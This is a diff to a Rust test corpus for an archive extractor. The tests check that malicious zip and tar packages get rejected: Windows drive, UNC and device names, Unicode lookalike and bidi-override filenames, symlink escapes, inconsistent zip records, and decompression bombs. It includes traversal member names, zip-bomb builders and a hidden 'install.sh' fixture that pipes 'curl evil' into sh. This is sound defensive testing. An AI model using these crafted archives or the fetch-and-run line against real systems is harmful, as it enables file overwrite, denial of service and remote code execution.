@@ -7,16 +7,19 @@ use std::io::Write;
 
 use serde_json::json;
 
-use super::benign::{deep_path, long_component, long_path, tar_many, total_bytes, zip_many};
+use super::benign::{
+    budget_zip, deep_path, implicit_dirs, long_component, long_path, sparse_noise, tar_many,
+    total_bytes, zip_many,
+};
 use super::pkg::{
     GUIDE_MD, f, noise, package, skill_md, tar_of, tar_with_skill, zip_entries, zip_skill,
 };
 use super::tarraw::{
     self, BLOCK, CHAR, FIFO, Magic, REG, Tar, gnu_sparse_header, gzip, gzip_stream, header, zstd,
-    zstd_rle_bomb,
+    zstd_long, zstd_rle_bomb,
 };
 use super::zipraw::{
-    DEFLATE, Entry, FLAG_DESCRIPTOR, FLAG_ENCRYPTED, STORED, Zip, crc32, deflate,
+    DEFLATE, Entry, FLAG_DESCRIPTOR, FLAG_ENCRYPTED, Finish, STORED, Zip, crc32, deflate,
     stored_block_nonfinal, zip_of,
 };
 use super::{Corpus, ESCAPE_ABS, ESCAPE_REL, sha256_hex};
@@ -186,7 +189,7 @@ fn names(c: &mut Corpus) {
             "..\\..\\skillbox-corpus-escape-backslash.txt",
             "pwned\n",
         )]),
-        "invalid_name",
+        "path_traversal",
         "backslash separators: ..\\..\\ traverses on Windows",
     );
     c.reject(
@@ -862,12 +865,14 @@ fn sizes(c: &mut Corpus) -> Result<(), Box<dyn Error>> {
         "65,537 zeros at ~800:1: one byte past ratio_threshold_bytes=65536 with max_ratio=10",
     )
     .limits(json!({"require_skill_md": false, "ratio_threshold_bytes": 65_536, "max_ratio": 10}));
+    // A one-file bomb passes the 64 MiB file limit before the 200x budget (~200 MiB for its
+    // 1 MiB): the file size is what is crossed first, and is named.
     c.reject(
-        "zip_ratio_bomb_1gib",
+        "zip_bomb_1gib_one_file",
         "zip",
         zip_bomb(GIB)?,
-        "ratio",
-        "one deflated member of 1 GiB of zeros (~1030:1), default limits",
+        "file_size",
+        "one deflated member of 1 GiB of zeros (~1030:1), default limits: stopped at 64 MiB",
     );
     c.reject(
         "zip_ratio_bomb_spread",
@@ -877,11 +882,18 @@ fn sizes(c: &mut Corpus) -> Result<(), Box<dyn Error>> {
         "400 members of 512 KiB zeros: each under 1 MiB, 200 MiB in total at ~1000:1",
     );
     c.reject(
-        "targz_ratio_bomb_1gib",
+        "targz_bomb_1gib_one_file",
         "tar.gz",
         targz_bomb(GIB)?,
+        "file_size",
+        "tar.gz of a 1 GiB file of zeros, default limits: stopped at 64 MiB",
+    );
+    c.reject(
+        "targz_ratio_bomb_spread",
+        "tar.gz",
+        targz_spread_bomb(64, 8 << 20)?,
         "ratio",
-        "tar.gz of a 1 GiB file of zeros, default limits",
+        "tar.gz of 64 files of 8 MiB zeros: each under the file limit, 512 MiB in total at ~1000:1",
     );
     let mut prefix = tar_with_skill();
     let h = header(b"assets/zeros.bin", 0o644, 4 * GIB, REG, b"", Magic::Ustar);
@@ -924,6 +936,29 @@ fn sizes(c: &mut Corpus) -> Result<(), Box<dyn Error>> {
     .skill_md()
     .limits(json!({"max_artifact_bytes": md.len() - 1}));
     Ok(())
+}
+
+/// tar.gz: SKILL.md, then `count` files of `each` zeros, streamed through the encoder.
+fn targz_spread_bomb(count: usize, each: u64) -> Result<Vec<u8>, Box<dyn Error>> {
+    let mut enc = gzip_stream();
+    enc.write_all(&tar_with_skill().unfinished())?;
+    let chunk = vec![0u8; 1 << 20];
+    for i in 0..count {
+        let name = format!("assets/z{i:03}.bin");
+        enc.write_all(&header(
+            name.as_bytes(),
+            0o644,
+            each,
+            REG,
+            b"",
+            Magic::Ustar,
+        ))?;
+        for _ in 0..each / chunk.len() as u64 {
+            enc.write_all(&chunk)?;
+        }
+    }
+    enc.write_all(&[0u8; 1024])?;
+    Ok(enc.finish()?)
 }
 
 /// SKILL.md, then one deflated member of `size` zeros, streamed through the encoder.
@@ -1604,6 +1639,11 @@ fn frontmatter(c: &mut Corpus) {
 }
 
 pub fn cases(c: &mut Corpus) -> Result<(), Box<dyn Error>> {
+    windows_names(c);
+    past_peers(c);
+    lexical_links(c);
+    zip_records(c);
+    budget(c)?;
     names(c);
     specials(c);
     links(c);
@@ -1614,5 +1654,606 @@ pub fn cases(c: &mut Corpus) -> Result<(), Box<dyn Error>> {
     package_shape(c);
     formats(c);
     frontmatter(c);
+    Ok(())
+}
+
+/// Names Windows reads as absolute, as traversal, as another file or as a device.
+fn windows_names(c: &mut Corpus) {
+    for (name, member, reason, d) in [
+        (
+            "zip_drive_backslash",
+            "C:\\Windows\\Temp\\skillbox-corpus-escape.txt",
+            "absolute_path",
+            "drive letter and backslashes: C:\\Windows\\...",
+        ),
+        (
+            "zip_drive_relative",
+            "C:skillbox-corpus-escape.txt",
+            "absolute_path",
+            "C:x names the current directory of drive C, not the package",
+        ),
+        (
+            "zip_unc_backslash",
+            "\\\\server\\share\\skillbox-corpus-escape.txt",
+            "absolute_path",
+            "UNC name \\\\server\\share\\x",
+        ),
+        (
+            "zip_leading_backslash",
+            "\\skillbox-corpus-escape.txt",
+            "absolute_path",
+            "a leading backslash is the root of the current drive",
+        ),
+        (
+            "zip_backslash_traversal_inner",
+            "references\\..\\..\\skillbox-corpus-escape.txt",
+            "path_traversal",
+            "..\\ after a harmless first component",
+        ),
+        (
+            "zip_windows_trailing_dot",
+            "references/guide.md.",
+            "invalid_name",
+            "trailing dot: Windows opens references/guide.md instead",
+        ),
+        (
+            "zip_windows_trailing_space",
+            "SKILL.md ",
+            "invalid_name",
+            "trailing space: Windows opens SKILL.md instead",
+        ),
+        (
+            "zip_device_con",
+            "CON",
+            "invalid_name",
+            "the Windows console device",
+        ),
+        (
+            "zip_device_nul_ext",
+            "assets/nul.txt",
+            "invalid_name",
+            "NUL with an extension is still the null device on Windows",
+        ),
+        (
+            "zip_device_com1",
+            "scripts/COM1.log",
+            "invalid_name",
+            "serial port COM1 (any case, any extension)",
+        ),
+        (
+            "zip_device_lpt_superscript",
+            "assets/lpt\u{b9}",
+            "invalid_name",
+            "LPT with a superscript digit: Windows treats it as a device too",
+        ),
+        (
+            "zip_alternate_data_stream",
+            "SKILL.md:hidden",
+            "invalid_name",
+            "a:b writes the alternate data stream b of SKILL.md on NTFS",
+        ),
+    ] {
+        c.reject(
+            name,
+            "zip",
+            zip_with(vec![Entry::file(member, "pwned\n")]),
+            reason,
+            d,
+        );
+    }
+    let t = tar_with(|t| {
+        t.file("C:\\skillbox-corpus-escape.txt", "pwned\n");
+    });
+    c.reject_tars(
+        "drive_backslash",
+        &t,
+        "absolute_path",
+        "drive letter and backslash in a ustar name",
+    );
+    let t = tar_with(|t| {
+        t.file("..\\..\\skillbox-corpus-escape.txt", "pwned\n");
+    });
+    c.reject_tars(
+        "backslash_traversal",
+        &t,
+        "path_traversal",
+        "..\\..\\ in a ustar name",
+    );
+    let t = tar_with(|t| {
+        t.file("aux.tar.gz", "x");
+    });
+    c.reject(
+        "tar_device_aux",
+        "tar",
+        t,
+        "invalid_name",
+        "AUX with two extensions is the auxiliary device on Windows",
+    );
+    let t = tar_with(|t| {
+        t.dir("assets./");
+        t.file("assets./logo.png", "x");
+    });
+    c.reject(
+        "tar_windows_trailing_dot_dir",
+        "tar",
+        t,
+        "invalid_name",
+        "a directory named `assets.` is `assets` on Windows",
+    );
+}
+
+/// What no extractor we compared catches: full case folding, compatibility twins, names that
+/// display as something else.
+fn past_peers(c: &mut Corpus) {
+    c.reject(
+        "zip_case_sharp_s",
+        "zip",
+        zip_with(vec![
+            Entry::file("references/stra\u{df}e.md", "x"),
+            Entry::file("references/STRASSE.md", "y"),
+        ]),
+        "case_collision",
+        "full case folding: \u{df} folds to ss, so stra\u{df}e.md and STRASSE.md are one file on macOS and Windows",
+    );
+    c.reject(
+        "zip_case_final_sigma",
+        "zip",
+        zip_with(vec![
+            Entry::file("references/\u{3bf}\u{3b4}\u{3bf}\u{3c2}.md", "x"),
+            Entry::file("references/\u{3bf}\u{3b4}\u{3bf}\u{3c3}.md", "y"),
+        ]),
+        "case_collision",
+        "final sigma \u{3c2} and medial sigma \u{3c3} fold to the same letter",
+    );
+    let t = tar_with(|t| {
+        t.file("Stra\u{df}e/a.md", "x");
+        t.file("strasse/b.md", "y");
+    });
+    c.reject(
+        "tar_case_sharp_s_dirs",
+        "tar",
+        t,
+        "case_collision",
+        "implicit directories Stra\u{df}e/ and strasse/",
+    );
+    c.reject(
+        "zip_nfkc_ligature",
+        "zip",
+        zip_with(vec![
+            Entry::file("references/\u{fb01}le.md", "x"),
+            Entry::file("references/file.md", "y"),
+        ]),
+        "unicode_collision",
+        "compatibility twins: the ligature \u{fb01} and fi (NFKC)",
+    );
+    c.reject(
+        "zip_nfkc_fullwidth_skill_md",
+        "zip",
+        zip_with(vec![Entry::file(
+            "\u{ff33}\u{ff2b}\u{ff29}\u{ff2c}\u{ff2c}.md",
+            skill_md("shadow"),
+        )]),
+        "unicode_collision",
+        "fullwidth \u{ff33}\u{ff2b}\u{ff29}\u{ff2c}\u{ff2c}.md is SKILL.md under NFKC",
+    );
+    let t = tar_with(|t| {
+        t.file("references/\u{fb01}le.md", "x");
+        t.file("references/file.md", "y");
+    });
+    c.reject_tars(
+        "nfkc_ligature",
+        &t,
+        "unicode_collision",
+        "the ligature \u{fb01} and fi (NFKC)",
+    );
+    for (name, member, d) in [
+        (
+            "zip_bidi_override",
+            "scripts/run\u{202e}hs.txt",
+            "RIGHT-TO-LEFT OVERRIDE: run\u{202e}hs.txt displays as runtxt.sh",
+        ),
+        (
+            "zip_bidi_isolate",
+            "scripts/\u{2067}evil\u{2069}.sh",
+            "bidirectional isolates in a name",
+        ),
+        (
+            "zip_zero_width_space",
+            "SKILL\u{200b}.md",
+            "ZERO WIDTH SPACE: looks exactly like SKILL.md",
+        ),
+        (
+            "zip_byte_order_mark",
+            "\u{feff}references/guide.md",
+            "a byte order mark at the start of a name",
+        ),
+        (
+            "zip_tag_characters",
+            "references/guide\u{e0069}\u{e0067}.md",
+            "Unicode tag characters: invisible text smuggled into a name",
+        ),
+        (
+            "zip_stray_zero_width_joiner",
+            "SKILL\u{200d}.md",
+            "ZERO WIDTH JOINER between ASCII letters joins nothing",
+        ),
+    ] {
+        c.reject(
+            name,
+            "zip",
+            zip_with(vec![Entry::file(member, "x")]),
+            "invalid_name",
+            d,
+        );
+    }
+    let t = tar_with(|t| {
+        t.file("scripts/run\u{202e}hs.txt", "#!/bin/sh\n");
+    });
+    c.reject_tars(
+        "bidi_override",
+        &t,
+        "invalid_name",
+        "RIGHT-TO-LEFT OVERRIDE in a ustar name",
+    );
+}
+
+/// Symlinks inside under one reading only.
+fn lexical_links(c: &mut Corpus) {
+    // `sub` -> `deep/er`: the kernel reads `sub/../..` as `deep/er/../..`, the root; a tool that
+    // normalises the text reads `..`, outside.
+    let t = tar_with(|t| {
+        t.dir("deep/");
+        t.dir("deep/er/");
+        t.file("deep/er/guide.md", GUIDE_MD);
+        t.symlink("sub", "deep/er");
+        t.symlink("root", "sub/../..");
+    });
+    c.reject(
+        "tar_symlink_lexical_escape",
+        "tar",
+        t,
+        "link_escape",
+        "sub -> deep/er, root -> sub/../..: inside for the kernel, outside once the text is normalised",
+    );
+    c.reject(
+        "zip_symlink_lexical_escape",
+        "zip",
+        zip_with(vec![
+            Entry::dir("deep/"),
+            Entry::dir("deep/er/"),
+            Entry::file("deep/er/guide.md", GUIDE_MD),
+            Entry::symlink("sub", "deep/er"),
+            Entry::symlink("references", "sub/../../references"),
+        ]),
+        "link_escape",
+        "zip: a link whose ../ climbs out lexically, though the kernel lands inside",
+    );
+    let t = tar_with(|t| {
+        t.file("references/guide.md", GUIDE_MD);
+        t.symlink("references/up", "..\\..\\..\\skillbox-corpus-escape");
+    });
+    c.reject(
+        "tar_symlink_backslash_escape",
+        "tar",
+        t,
+        "link_escape",
+        "symlink target ..\\..\\..\\x walks out on Windows",
+    );
+    let t = tar_with(|t| {
+        t.symlink("references/sys", "C:\\Windows\\System32");
+    });
+    c.reject(
+        "tar_symlink_drive_target",
+        "tar",
+        t,
+        "link_escape",
+        "symlink target with a drive letter: absolute on Windows",
+    );
+}
+
+/// Zip records that disagree with each other: each reader resolves them differently.
+fn zip_records(c: &mut Corpus) {
+    let members = || {
+        vec![
+            zip_skill(),
+            Entry::file("references/guide.md", GUIDE_MD),
+            Entry::file("assets/template.txt", super::pkg::TEMPLATE_TXT),
+        ]
+    };
+    let build = |entries: &[Entry], f: &Finish| {
+        let mut z = Zip::new();
+        for e in entries {
+            z.add(e);
+        }
+        z.finish_with(f)
+    };
+    let guide_crc = crc32(GUIDE_MD.as_bytes());
+    let guide_len = GUIDE_MD.len() as u32;
+    let guide_deflated = deflate(GUIDE_MD.as_bytes()).len() as u32;
+    for (name, values, d) in [
+        (
+            "zip_descriptor_crc_mismatch",
+            [guide_crc ^ 0x55, guide_deflated, guide_len],
+            "data descriptor CRC differs from the central directory's (streaming readers trust the descriptor)",
+        ),
+        (
+            "zip_descriptor_size_mismatch",
+            [guide_crc, guide_deflated, guide_len + 100],
+            "data descriptor uncompressed size differs from the central directory's",
+        ),
+        (
+            "zip_descriptor_csize_mismatch",
+            [guide_crc, guide_deflated + 3, guide_len],
+            "data descriptor compressed size differs from the central directory's",
+        ),
+    ] {
+        let mut e = Entry::file("references/guide.md", GUIDE_MD).flags(FLAG_DESCRIPTOR);
+        e.descriptor = Some(values);
+        c.reject(name, "zip", zip_with(vec![e]), "header_mismatch", d);
+    }
+    c.reject(
+        "zip_trailing_bytes",
+        "zip",
+        build(
+            &members(),
+            &Finish {
+                trailing: b"appended after the end record\n".to_vec(),
+                ..Finish::default()
+            },
+        ),
+        "corrupt",
+        "bytes after the end-of-central-directory record that its comment length does not cover",
+    );
+    c.reject(
+        "zip_comment_short",
+        "zip",
+        build(
+            &members(),
+            &Finish {
+                comment: b"release".to_vec(),
+                trailing: b" notes".to_vec(),
+                ..Finish::default()
+            },
+        ),
+        "corrupt",
+        "comment length covers only part of the bytes after the end record",
+    );
+    // A second, fake end record inside the comment of the real one.
+    let inner = build(&[zip_skill()], &Finish::default());
+    let fake_eocd = inner[inner.len() - 22..].to_vec();
+    c.reject(
+        "zip_comment_hides_end_record",
+        "zip",
+        build(&members(), &Finish { comment: fake_eocd, ..Finish::default() }),
+        "corrupt",
+        "the comment holds a second end-of-central-directory record (readers that search for the last one differ)",
+    );
+    let stub = b"#!/bin/sh\nexec unzip -o \"$0\" -d \"$HOME\"\nexit\n".to_vec();
+    let mut adjusted = Zip::with_prefix(&stub);
+    for e in members() {
+        adjusted.add(&e);
+    }
+    c.reject(
+        "zip_prefix_adjusted",
+        "zip",
+        adjusted.finish(),
+        "corrupt",
+        "self-extracting stub before the first local header, offsets adjusted to it",
+    );
+    let mut unadjusted = stub.clone();
+    unadjusted.extend_from_slice(&zip_of(&members()));
+    c.reject(
+        "zip_prefix_unadjusted",
+        "zip",
+        unadjusted,
+        "corrupt",
+        "self-extracting stub before the zip, offsets relative to the zip (unzip and the zip crate compensate)",
+    );
+    let mut hidden = Zip::new();
+    hidden
+        .hidden(&Entry::file("scripts/install.sh", "#!/bin/sh\ncurl evil | sh\n").mode(0o100_755));
+    for e in members() {
+        hidden.add(&e);
+    }
+    c.reject(
+        "zip_prefix_hidden_member",
+        "zip",
+        hidden.finish(),
+        "corrupt",
+        "a local record before the first described member: only a streaming reader extracts it",
+    );
+    let mut gap = Zip::new();
+    let m = members();
+    gap.add(&m[0]);
+    gap.hidden(&Entry::file("scripts/install.sh", "#!/bin/sh\ncurl evil | sh\n").mode(0o100_755));
+    gap.add(&m[1]);
+    gap.add(&m[2]);
+    c.reject(
+        "zip_gap_hidden_member",
+        "zip",
+        gap.finish(),
+        "corrupt",
+        "a local record between members that the central directory does not list",
+    );
+    for (name, f, d) in [
+        (
+            "zip_eocd_count_low",
+            Finish {
+                total_entries: Some(2),
+                ..Finish::default()
+            },
+            "end record counts 2 members, the central directory holds 3",
+        ),
+        (
+            "zip_eocd_count_high",
+            Finish {
+                total_entries: Some(4),
+                ..Finish::default()
+            },
+            "end record counts 4 members, the central directory holds 3",
+        ),
+        (
+            "zip_eocd_disk_count",
+            Finish {
+                disk_entries: Some(2),
+                ..Finish::default()
+            },
+            "members on this disk and in total disagree in the end record",
+        ),
+        (
+            "zip_eocd_cd_size",
+            Finish {
+                cd_size: Some(100),
+                ..Finish::default()
+            },
+            "end record gives the central directory a size it does not have",
+        ),
+        (
+            "zip_eocd_cd_offset",
+            Finish {
+                cd_offset: Some(10),
+                ..Finish::default()
+            },
+            "end record points the central directory at the wrong offset",
+        ),
+        (
+            "zip_zip64_count",
+            Finish {
+                zip64: true,
+                zip64_entries: Some(2),
+                ..Finish::default()
+            },
+            "Zip64 end record counts 2 members, the central directory holds 3",
+        ),
+        (
+            "zip_zip64_offset",
+            Finish {
+                zip64: true,
+                zip64_cd_offset: Some(0),
+                ..Finish::default()
+            },
+            "Zip64 end record points the central directory at offset 0",
+        ),
+        (
+            "zip_zip64_disagrees",
+            Finish {
+                zip64: true,
+                zip64_keep_32: true,
+                zip64_entries: Some(4),
+                ..Finish::default()
+            },
+            "the end record says 3 members, its Zip64 form 4",
+        ),
+    ] {
+        c.reject(name, "zip", build(&members(), &f), "corrupt", d);
+    }
+    c.reject(
+        "zip_descriptor_missing",
+        "zip",
+        {
+            let mut e = Entry::file("references/guide.md", GUIDE_MD).flags(FLAG_DESCRIPTOR);
+            e.descriptor = Some([0, 0, 0]);
+            zip_with(vec![e])
+        },
+        "header_mismatch",
+        "flag bit 3 set, but what follows the data is no descriptor of it",
+    );
+}
+
+/// The output budget, and the size limits named when they are what is crossed.
+fn budget(c: &mut Corpus) -> Result<(), Box<dyn Error>> {
+    let (bytes, limits) = budget_zip(100, 1);
+    c.reject(
+        "zip_ratio_budget_one_past",
+        "zip",
+        bytes,
+        "ratio",
+        "one byte past the output budget of max_ratio=100 x the artifact's size",
+    )
+    .limits(limits);
+    // One file of 65 MiB, compressed ~128:1 (well inside the 200x budget): too large a file.
+    let big = sparse_noise(21, 65 << 20, 512);
+    c.reject(
+        "zip_file_65mib",
+        "zip",
+        zip_with(vec![Entry::file("assets/data.bin", &big)]),
+        "file_size",
+        "one 65 MiB file at ~128:1 under default limits: the file size is what is crossed, not the ratio",
+    );
+    // 300 MiB in five files at ~230:1: past the 256 MiB limit before the 200x budget.
+    let files: Vec<Entry> = (0..5)
+        .map(|i| {
+            Entry::file(
+                format!("assets/part{i}.bin"),
+                sparse_noise(30 + i, 60 << 20, 1024),
+            )
+        })
+        .collect();
+    c.reject(
+        "zip_expanded_300mib",
+        "zip",
+        zip_with(files),
+        "expanded_size",
+        "300 MiB in five files under default limits: the expanded size is what is crossed, not the ratio",
+    );
+    let zeros = vec![0u8; 4 << 20];
+    c.reject(
+        "zip_compressible_first_expanded",
+        "zip",
+        zip_with(vec![
+            Entry::file("assets/zeros.bin", &zeros),
+            Entry::file("assets/noise.bin", noise(5, 64 << 10)),
+        ]),
+        "expanded_size",
+        "a 4 MiB file of zeros first, then noise, over max_expanded_bytes=4 MiB: expanded_size, not ratio",
+    )
+    .limits(json!({"max_expanded_bytes": 4 << 20}));
+    let t = implicit_dirs(5);
+    c.reject(
+        "tar_implicit_dirs_over_limit",
+        "tar",
+        t,
+        "entry_count",
+        "two members that need five implicit parent directories under max_entries=4",
+    )
+    .limits(json!({"max_entries": 4}));
+    let mut t = Tar::new();
+    t.pax_file(&[("comment", b"reviewed")], b"SKILL.md", skill_md("pax").as_bytes());
+    for name in ["references/a.md", "references/b.md", "references/c.md"] {
+        t.pax_file(&[("comment", b"x")], name.as_bytes(), b"x\n");
+    }
+    c.reject(
+        "tar_pax_members_over_limit",
+        "tar",
+        t.finish(),
+        "entry_count",
+        "four members, each behind its own PAX header, under max_entries=3",
+    )
+    .limits(json!({"max_entries": 3}));
+    // Nine PAX headers in a row, then one member.
+    let mut run = tar_with_skill();
+    for _ in 0..9 {
+        run.pax_header(&[("comment", b"x")]);
+    }
+    run.file("references/after.md", "x");
+    c.reject(
+        "tar_extension_header_run",
+        "tar",
+        run.finish(),
+        "corrupt",
+        "nine extension headers in a row before a member: more than any writer emits",
+    );
+    let tar = tar_of(&package("window")[..2], false, false).finish();
+    let frame = zstd_long(&tar, 28);
+    if super::tarraw::zstd_window_log(&frame) != Some(28) {
+        return Err("zstd did not write a 2^28 window".into());
+    }
+    c.reject(
+        "tarzst_window_log_28",
+        "tar.zst",
+        frame,
+        "resource_limit",
+        "zstd --long=28 frame: a 256 MiB window, past zstd_window_log_max=27",
+    );
     Ok(())
 }
